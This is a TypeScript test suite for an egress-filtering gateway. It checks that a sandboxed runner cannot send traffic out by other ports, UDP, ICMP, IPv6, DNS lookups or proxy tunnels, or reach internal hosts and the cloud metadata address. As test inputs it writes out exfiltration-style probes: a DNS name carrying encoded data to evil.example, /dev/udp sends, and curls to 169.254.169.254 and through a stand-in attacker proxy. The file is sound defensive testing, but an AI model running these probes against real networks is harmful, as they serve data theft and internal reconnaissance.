// What gets out of a runner's subnet without a name that a gateway reads: other ports and protocols, DNS, the network around it, the proxy's own
// ports. Nothing does, and each case is in a log: nftables', HAProxy's, or the resolver's.
import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import { createChecks } from "./checks.ts";
import { type Lab, startLab } from "./lab.ts";
import { EVIL, eventually, LISTS, LONG, PING } from "./scene.ts";

setDefaultTimeout(LONG);

describe("a gateway that enforces", () => {
	let lab: Lab;
	let { logged, dropped, isCut } = {} as ReturnType<typeof createChecks>;
	beforeAll(async () => {
		lab = await startLab("enforce", LISTS);
		({ logged, dropped, isCut } = createChecks(lab));
	});
	afterAll(() => lab.stop());
	const RUNNER = "SRC=10.77.1.10";

	test("cuts other ports", async () => {
		await isCut("run", `http://evil.test:8443/`, { to: EVIL });
		await isCut("run", `http://${EVIL}:8443/`);
		expect(await dropped(RUNNER, `DST=${EVIL}`, "PROTO=TCP", "DPT=8443")).toContain("mayfly-egress forward IN=run0 OUT=out0");
	});

	test.each([
		["UDP 443", EVIL, 443],
		["a resolver of somebody else's", "11.0.0.8", 53],
	])("cuts %s", async (_, address, port) => {
		const before = lab.reached.length;
		await lab.exec("run", "bash", "-c", `echo hello > /dev/udp/${address}/${port}`);
		expect(await dropped(RUNNER, `DST=${address}`, "PROTO=UDP", `DPT=${port}`)).toContain("mayfly-egress forward IN=run0 OUT=out0");
		await Bun.sleep(300);
		expect(lab.reached.slice(before)).toEqual([]);
	});

	test("cuts ICMP", async () => {
		expect((await lab.exec("run", "python3", "-c", PING)).stdout).toBe("");
		expect(await dropped(RUNNER, `DST=${EVIL}`, "PROTO=ICMP")).toContain("mayfly-egress forward");
	});

	test("is no way round for IPv6", async () => {
		await isCut("run", "http://[2001:db8::20]/", { args: ["-g"] });
		expect(await dropped("DST=2001:0db8:0000:0000:0000:0000:0000:0020", "PROTO=TCP", "DPT=80")).toContain("mayfly-egress forward IN=run0");
	});

	test("lets no data out in questions: names that are not listed have no address, and the gateway does not ask for them", async () => {
		const name = "c2vjcmv0.evil.example";
		expect((await lab.curl("run", `https://${name}/`)).stderr).toContain("Could not resolve");
		expect(await eventually(() => lab.dnsLog().find((line) => line.includes(`${name} is NXDOMAIN`)))).toBeDefined();
		expect(lab.dnsLog().some((line) => line.includes(`${name} from 10.77.1.10`))).toBe(true);
		for (const url of [`https://${name}/`, `http://${name}/`]) await isCut("run", url, { to: EVIL });
		for (const gateway of ["tls", "web"]) expect(await logged({ name, gateway })).toMatchObject({ act: "deny", why: "not-listed" });
		expect(lab.dnsLog().filter((line) => line.includes(`${name} from 11.0.1.2`))).toEqual([]);
	});

	test("lets nobody look around: no other subnet, not itself, not its metadata", async () => {
		for (const target of ["10.77.2.10", "10.77.1.1", "10.77.2.1", "11.0.1.2", "169.254.169.254"])
			for (const port of [22, 53, 80, 443, 3128, 3129, 3130]) {
				const before = lab.reached.length;
				const { status } = await lab.exec("run", "curl", "-q", "-sS", "--fail", "--max-time", "1", `http://${target}:${port}/`);
				expect([target, port, status === 0]).toEqual([target, port, false]);
				expect(lab.reached.slice(before)).toEqual([]);
				if (port === 80) expect(await logged({ gateway: "web", orig_dst: target })).toMatchObject({ act: "deny", why: "not-listed" });
				else if (port === 443) expect(await logged({ gateway: "tls", orig_dst: target })).toMatchObject({ act: "deny" });
				else {
					const place = target === "10.77.2.10" ? "forward IN=run0 OUT=dep0" : "in IN=run0 OUT=";
					expect(await dropped(RUNNER, `DST=${target}`, `DPT=${port}`)).toContain(`mayfly-egress ${place}`);
				}
			}
	});

	test("is no proxy to be asked", async () => {
		for (const port of [3129, 3130]) {
			const proxy = `http://10.77.1.1:${port}`;
			const { status } = await lab.exec("run", "curl", "-q", "-sS", "--max-time", "3", "--proxy", proxy, "http://github.test/");
			expect(status).not.toBe(0);
			expect(await dropped(RUNNER, "DST=10.77.1.1", `DPT=${port}`)).toContain("mayfly-egress in IN=run0");
		}
		// A tunnel asked for on port 80.
		await isCut("run", "https://evil.test/", { args: ["--proxy", `http://${EVIL}:80`, "-k"] });
		expect(await logged({ gateway: "web", why: "tunnel" })).toMatchObject({ act: "deny", method: "CONNECT", orig_dst: EVIL });
	});

	test("keeps HAProxy itself off what is not public, whatever it is told", async () => {
		const as = (target: string) =>
			lab.exec("gw", "setpriv", "--reuid=haproxy", "--clear-groups", "curl", "-q", "-sS", "--max-time", "2", `http://${target}/`);
		for (const target of ["169.254.169.254", "10.77.2.10", "127.0.0.1"]) {
			expect((await as(target)).status).not.toBe(0);
			expect(await dropped(`DST=${target}`, "DPT=80")).toContain("mayfly-egress out IN= OUT=");
		}
		const six = await as("[2001:db8::20]");
		expect([six.stdout, six.status === 0]).toEqual(["", false]);
		expect(await dropped("DST=2001:0db8:0000:0000:0000:0000:0000:0020", "DPT=80", "OUT=out0")).toContain("mayfly-egress out IN= OUT=");
	});
});
